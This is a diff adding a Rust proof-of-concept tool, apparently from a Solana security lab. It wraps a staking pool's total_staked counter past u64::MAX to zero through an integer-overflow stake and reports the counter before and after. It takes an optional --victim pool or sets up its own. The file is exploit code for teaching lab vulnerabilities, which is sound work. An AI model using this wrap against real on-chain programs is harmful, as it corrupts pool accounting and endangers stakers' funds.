@@ -0,0 +1,95 @@
+//! poc-arithmetic-errors: stakes exactly what wraps a pool's total to zero
+//!
+//! ```bash
+//! poc-arithmetic-errors [--rpc URL] [--victim POOL --stake STAKE]
+//! ```
+//!
+//! Without `--victim`, sets up a pool of its own first, with an honest
+//! stake of `--amount` in it. The wrapping stake is recorded in `--stake`,
+//! an empty stake account the program owns, or one this creates.
+
+use std::process::ExitCode;
+
+use anyhow::Result as AnyResult;
+use clap::Parser;
+use lab_client::accounts::{StakingPool, UserStake};
+use lab_client::arithmetic_errors::Client;
+use lab_client::signers::VICTIM;
+use lab_client::{Keypair, Signer};
+use lab_pocs::{Exploit, Report, Target};
+use solana_program::pubkey::Pubkey;
+
+#[derive(Parser)]
+#[command(
+    name = "poc-arithmetic-errors",
+    about = "Wrap an arithmetic_errors pool's total_staked past u64::MAX to zero"
+)]
+struct Args {
+    #[command(flatten)]
+    target: Target,
+    /// The pool to wrap (default: one this sets up)
+    #[arg(long)]
+    victim: Option<Pubkey>,
+    /// The stake account to record the wrapping stake in (default: one
+    /// this creates)
+    #[arg(long)]
+    stake: Option<Pubkey>,
+    /// The honest stake in the pool this sets up
+    #[arg(long, default_value_t = 1_000)]
+    amount: u64,
+}
+
+fn main() -> ExitCode {
+    lab_pocs::run(poc)
+}
+
+async fn poc(args: Args) -> AnyResult<Report> {
+    let client = Client::new(args.target.client("arithmetic_errors")?);
+    let mut report = Report::new("arithmetic_errors", &args.target, &client);
+    let pool = match args.victim {
+        Some(pool) => pool,
+        None => {
+            let pool = Keypair::new();
+            let stake = Keypair::new();
+            let staker = args.target.signers().keypair(VICTIM)?;
+            let signature = client.create_account(&pool, StakingPool::LEN, 0).await?;
+            report.setup(format!("created pool {}", pool.pubkey()), signature);
+            let signature = client.create_account(&stake, UserStake::LEN, 0).await?;
+            report.setup(format!("created stake {}", stake.pubkey()), signature);
+            let signature = client
+                .stake(pool.pubkey(), stake.pubkey(), &staker, args.amount)
+                .await?;
+            report.setup(
+                format!("{} staked {} into it", staker.pubkey(), args.amount),
+                signature,
+            );
+            pool.pubkey()
+        }
+    };
+    let stake = match args.stake {
+        Some(stake) => stake,
+        None => {
+            let stake = Keypair::new();
+            let signature = client.create_account(&stake, UserStake::LEN, 0).await?;
+            report.setup(
+                format!("created the attacker's stake {}", stake.pubkey()),
+                signature,
+            );
+            stake.pubkey()
+        }
+    };
+
+    report.inspect(&client, "before", pool).await?;
+    let before = client.account::<StakingPool>(pool).await?.total_staked;
+    let wrap = client.exploit_wrap(pool, stake).await;
+    let after = client.account::<StakingPool>(pool).await?.total_staked;
+    report.inspect(&client, "after", pool).await?;
+    Ok(report.exploit(
+        pool,
+        wrap.map(|staked| Exploit {
+            landed: after < before,
+            outcome: format!("staked {staked}, and total_staked went from {before} to {after}"),
+            lamports_taken: None,
+        }),
+    ))
+}